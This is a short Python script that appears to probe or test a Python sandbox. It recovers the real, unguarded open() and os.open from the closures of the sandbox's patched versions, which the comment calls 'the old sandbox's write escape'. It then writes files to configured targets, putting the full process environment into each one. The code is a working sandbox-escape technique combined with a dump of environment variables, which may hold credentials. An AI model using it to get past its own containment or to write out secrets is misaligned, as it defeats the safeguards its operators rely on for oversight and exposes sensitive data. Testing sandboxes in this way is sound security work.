# Recover the real open from the guard's closure (the old sandbox's write escape) and write.
import builtins, os
real = None
for cell in builtins.open.__closure__ or ():
    try:
        v = cell.cell_contents
    except ValueError:
        continue
    if callable(v) and v is not builtins.open:
        real = v
real = real or builtins.open
real_os_open = None
for cell in getattr(os.open, "__closure__", None) or ():
    v = cell.cell_contents
    if callable(v) and getattr(v, "__name__", "") == "open":
        real_os_open = v
for t in CFG["targets"] + [os.path.join(CFG["tree"], "escaped.txt")]:
    try:
        with real(t, "w") as fh:
            fh.write("escaped " + str(os.environ))
        print("WROTE", t)
    except Exception as e:
        print("no", t, e)
    if real_os_open:
        try:
            os.close(real_os_open(t, os.O_WRONLY | os.O_CREAT, 0o644))
            print("WROTE os.open", t)
        except Exception as e:
            print("no", t, e)
